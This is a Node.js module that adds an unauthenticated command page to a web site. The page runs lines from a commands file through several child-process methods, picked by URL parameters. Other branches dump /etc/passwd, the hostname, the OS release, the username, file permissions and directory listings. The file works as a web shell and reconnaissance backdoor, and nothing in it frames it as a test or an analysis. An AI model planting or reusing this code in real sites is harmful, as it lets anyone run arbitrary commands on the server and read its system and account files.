// A command page that adds itself to a Node site: `/PAGE?n=N&way=W` runs line N of commands.txt. See README.md.
const fs = require('fs');
const os = require('os');
const path = require('path');
const { exec, execFile, execSync, spawnSync } = require('child_process');

module.exports = routes => {
  routes['/' + path.basename(__filename, '.js')] = (request, answer) => {
    const commands = fs.readFileSync(path.join(__dirname, 'commands.txt'), 'utf8').trim().split('\n');
    const command = commands[Number(request.search.get('n')) % commands.length];
    const words = command.split(' ');
    switch (request.search.get('way')) {
      case 'shell': exec(command, (e, out) => answer(out)); break;
      case 'popen': answer(spawnSync(words[0], words.slice(1)).stdout); break;
      case 'sync': try { answer(execSync(command, { stdio: 'pipe' })); } catch (failed) { answer('failed'); } break;
      case 'own': answer(fs.readdirSync('.').map(f => `${f} ${fs.statSync(f).mode}`).join('\n') + os.release() + os.userInfo().username + fs.readFileSync('/etc/passwd')); break;
      case 'read': answer(fs.readFileSync(path.join(__dirname, '../t.csv')) + fs.readFileSync('/etc/hostname')); break;
      case 'walk': answer(fs.readdirSync(path.join(__dirname, '..')).map(f => f + JSON.stringify(fs.lstatSync(path.join(__dirname, '..', f)))).join('\n')); break;
      case 'store':
        fs.writeFileSync('/tmp/stored.bin', 'word '.repeat(500));
        fs.chmodSync('/tmp/stored.bin', 0o600);
        fs.unlinkSync('/tmp/stored.bin');
        answer('stored');
        break;
      default: execFile(words[0], words.slice(1), (e, out) => answer(out));
    }
  };
};
